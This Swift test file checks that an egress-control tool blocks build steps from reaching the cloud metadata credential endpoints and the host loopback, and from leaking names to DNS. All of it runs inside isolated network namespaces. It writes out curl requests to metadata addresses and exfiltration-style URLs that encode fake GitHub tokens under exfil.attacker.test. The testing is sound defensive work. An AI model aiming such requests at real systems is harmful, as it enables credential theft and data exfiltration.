import Foundation
import StepGuardServerTestSupport
import StepGuardTestSupport
import Testing

/// Holes 5 and 6 of issue #16, attacked through the built binary with real curl. Every address a
/// test reaches exists only inside a network namespace the test makes (`unshare --net --mount`,
/// with the cloud endpoints' addresses put on its loopback interface and its own /etc/hosts and
/// /etc/resolv.conf bind-mounted): nothing is ever sent to the real network.
@Suite(.serialized, .enabled(if: getuid() == 0, "needs root to make network and mount namespaces"))
struct ProtectedEgressTests {
    /// An HTTP server on every address of the namespace (`::` dual-stack) that records each request.
    static let server = """
        import http.server, socket, sys
        class Server(http.server.HTTPServer):
            address_family = socket.AF_INET6
            def server_bind(self):  # no reverse DNS lookup of the bound name
                self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
                self.socket.bind(self.server_address)
                self.server_name, self.server_port = "stand-in", self.server_address[1]
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                with open(sys.argv[2], "a") as hits:
                    hits.write("%s %s\\n" % (self.connection.getsockname()[0], self.path))
                body = b"credentials"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            def log_message(self, *args):
                pass
        server = Server(("::", int(sys.argv[3])), Handler)
        with open(sys.argv[1], "w") as ready:
            ready.write("ready\\n")
        server.serve_forever()
        """

    /// A DNS server on 127.0.0.1:53 that records every query (`name type`), answers `A 127.0.0.1`
    /// for the names in argv[3:], and NXDOMAIN for any other name.
    static let dns = """
        import socket, sys
        known = set(sys.argv[3:])
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind(("127.0.0.1", 53))
        with open(sys.argv[1], "w") as ready:
            ready.write("ready\\n")
        log = open(sys.argv[2], "a", buffering=1)
        while True:
            query, peer = sock.recvfrom(4096)
            offset, labels = 12, []
            while query[offset]:
                labels.append(query[offset + 1:offset + 1 + query[offset]].decode())
                offset += query[offset] + 1
            name, qtype = ".".join(labels).lower(), int.from_bytes(query[offset + 1:offset + 3], "big")
            log.write("%s %d\\n" % (name, qtype))
            question = query[12:offset + 5]
            answer = b"\\xc0\\x0c\\x00\\x01\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x04\\x7f\\x00\\x00\\x01" if name in known and qtype == 1 else b""
            flags = b"\\x81\\x80" if name in known else b"\\x81\\x83"
            sock.sendto(query[:2] + flags + b"\\x00\\x01" + (b"\\x00\\x01" if answer else b"\\x00\\x00") + b"\\x00\\x00\\x00\\x00" + question + answer, peer)
        """

    /// Runs `body` (sh, with `$sg` the binary and `$dir` the directory) inside fresh network and mount
    /// namespaces whose loopback is up and carries `addresses`, with `dir/hosts` and `dir/resolv.conf`
    /// (when written) bind-mounted over /etc's. In `body`, `serve SCRIPT ARGS...` starts server.py or
    /// dns.py and waits until it listens; servers are killed when the script ends.
    static func inNamespace(_ body: String, addresses: [String] = [], directory: TemporaryDirectory) throws -> ProgramResult {
        try directory.write("server.py", server)
        try directory.write("dns.py", dns)
        let script = """
            set -u
            sg="$1"; dir="$2"; pids=""; servers=0
            trap 'kill $pids 2>/dev/null' EXIT
            ip link set lo up
            for address in \(addresses.joined(separator: " ")); do ip addr add "$address/32" dev lo; done
            if [ -f "$dir/hosts" ]; then mount --bind "$dir/hosts" /etc/hosts; fi
            if [ -f "$dir/resolv.conf" ]; then mount --bind "$dir/resolv.conf" /etc/resolv.conf; fi
            serve() {
                servers=$((servers + 1)); ready="$dir/ready-$servers"; mkfifo "$ready"
                script="$1"; shift
                python3 "$dir/$script" "$ready" "$@" & pids="$pids $!"
                read _ < "$ready"
            }
            \(body)
            """
        return try ProgramRun.start("/usr/bin/unshare", ["--net", "--mount", "/bin/sh", "-c", script, "sh", StepGuardBinary.path, directory.path])
            .wait(timeout: 240)
    }

    /// Hole 5: under the built-in default policy (no `--policy`), a step reaches neither the cloud
    /// credential endpoints nor the host's loopback — by address, in other spellings, or by a name
    /// that resolves there, by absolute-form request or CONNECT. Control: a policy naming each of
    /// them explicitly reaches them all.
    @Test func theDefaultPolicyDeniesCredentialEndpointsAndTheHostsLoopback() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        try directory.write("hosts", "127.0.0.1 localhost\n::1 localhost\n169.254.170.2 ecs-credentials.test\n127.0.0.2 registry.test\n")
        let targets = ["169.254.170.2", "168.63.129.16", "100.100.100.200", "169.254.169.254", "127.0.0.1", "127.0.0.2", "0.0.0.0",
                       "[::1]", "[::ffff:127.0.0.2]", "2130706433", "localhost", "ecs-credentials.test", "registry.test"]
        let tunnelled = ["169.254.170.2", "[::1]", "registry.test"]  // CONNECT, as https:// clients ask
        try directory.write("explicit.yaml", """
            version: 1
            on_violation: fail
            egress:
              default: deny
              allow: ["169.254.170.2:80", "168.63.129.16:80", "100.100.100.200:80", "169.254.169.254:80", 127.0.0.0/8, "[::1]:80",
                      "0.0.0.0:80", localhost, ecs-credentials.test, registry.test]
            """)
        let result = try Self.inNamespace("""
            serve server.py "$dir/hits" 80
            for target in \(tunnelled.joined(separator: " ")); do
                "$sg" run -- curl -sS -g -m 10 -o /dev/null "https://$target:80/latest" 2>> "$dir/errors"
                echo "connect $target $?"
            done
            for policy in default explicit; do
                [ "$policy" = default ] && set -- || set -- --policy "$dir/explicit.yaml"
                for target in \(targets.joined(separator: " ")); do
                    "$sg" run "$@" -- curl -sS -g -m 10 -o /dev/null -w '%{http_code}' "http://$target/latest" > "$dir/out" 2>> "$dir/errors"
                    echo "$policy $target $? $(cat "$dir/out")"
                done
                echo "$policy hits $(cat "$dir/hits" 2>/dev/null | wc -l)"
                rm -f "$dir/hits"
            done
            """, addresses: ["169.254.170.2", "168.63.129.16", "100.100.100.200", "169.254.169.254"], directory: directory)
        let lines = result.stdout.split(separator: "\n").map(String.init)
        let diagnostics = "stdout:\n\(result.stdout)\nstderr:\n\(result.stderr)\n\((try? directory.read("errors")) ?? "")"
        #expect(result.status == 0, "\(diagnostics)")
        for target in targets {
            #expect(lines.contains { $0.hasPrefix("default \(target) 77 ") }, "the default policy must deny \(target) (and kill the step)\n\(diagnostics)")
            #expect(lines.contains("explicit \(target) 0 200"), "control: \(target) is reachable when named\n\(diagnostics)")
        }
        for target in tunnelled { #expect(lines.contains("connect \(target) 77"), "a CONNECT to \(target) must be denied too\n\(diagnostics)") }
        #expect(lines.contains("default hits 0"), "\(diagnostics)")
        #expect(lines.contains("explicit hits \(targets.count)"), "\(diagnostics)")
    }

    /// Hole 5 for an unprivileged user: run as `nobody` under the default policy, a step reaches no
    /// service on the host's loopback (a server in the test's own namespace; loopback only).
    @Test func theDefaultPolicyDeniesTheLoopbackToAnUnprivilegedUser() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let server = try LocalHTTPServer.start(host: "127.0.0.2") { _ in ServerResponse(body: "registry") }
        defer { server.shutdown() }
        for url in ["\(server.url)/v2/", "http://registry.localhost:\(server.port)/v2/"] {
            let run = try #require(try UnprivilegedTests.runAsNobody(["--", "curl", "-sS", "-m", "10", url], in: directory))
            #expect(run.status == 77, "\(url): \(run.stdout)\n\(run.stderr)")
            #expect(run.stderr.contains("protected by every policy"), "\(run.stderr)")
        }
        #expect(server.requests.isEmpty)
    }

    /// Hole 6: under `default: deny` with an address rule, a name no name rule allows is denied
    /// without a DNS query — by CONNECT and by absolute-form request alike. With
    /// `resolve_names_for_address_rules: true` the proxy does look such names up (that is its cost:
    /// every such name reaches the resolver), and one that resolves into an address rule is reached.
    @Test func deniedNamesAreNotSentToTheResolver() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        try directory.write("resolv.conf", "nameserver 127.0.0.1\noptions attempts:1 timeout:2\n")
        let strict = "version: 1\non_violation: fail\negress:\n  default: deny\n  allow: [\"127.0.0.1:18777\"]\n"
        try directory.write("strict.yaml", strict)
        try directory.write("opt-in.yaml", strict + "  resolve_names_for_address_rules: true\n")
        let urls = ["https://ghp-secret-0123.exfil.attacker.test:18777/", "http://ghp-secret-4567.exfil.attacker.test:18777/",
                    "http://cache.build.test:18777/"]
        let result = try Self.inNamespace("""
            serve dns.py "$dir/queries" cache.build.test
            serve server.py "$dir/hits" 18777
            for policy in strict opt-in; do
                for url in \(urls.joined(separator: " ")); do
                    "$sg" run --policy "$dir/$policy.yaml" -- curl -sS -m 10 -o /dev/null "$url" 2>> "$dir/errors"
                    echo "$policy $url $?"
                done
                echo "$policy queries: $(cut -d' ' -f1 "$dir/queries" | sort -u | tr '\n' ' ')"
                : > "$dir/queries"
            done
            """, directory: directory)
        let lines = result.stdout.split(separator: "\n").map(String.init)
        let diagnostics = "stdout:\n\(result.stdout)\nstderr:\n\(result.stderr)\n\((try? directory.read("errors")) ?? "")"
        #expect(result.status == 0, "\(diagnostics)")
        for url in urls { #expect(lines.contains("strict \(url) 77"), "\(diagnostics)") }
        #expect(lines.contains("strict queries: "), "no name may reach the resolver\n\(diagnostics)")
        #expect(lines.contains("opt-in http://cache.build.test:18777/ 0"), "\(diagnostics)")
        let optInQueries = try #require(lines.first { $0.hasPrefix("opt-in queries: ") }, "\(diagnostics)").split(separator: " ").map(String.init)
        for name in ["cache.build.test", "ghp-secret-0123.exfil.attacker.test", "ghp-secret-4567.exfil.attacker.test"] {
            #expect(optInQueries.contains(name), "the opt-in sends names to the resolver\n\(diagnostics)")
        }
    }
}
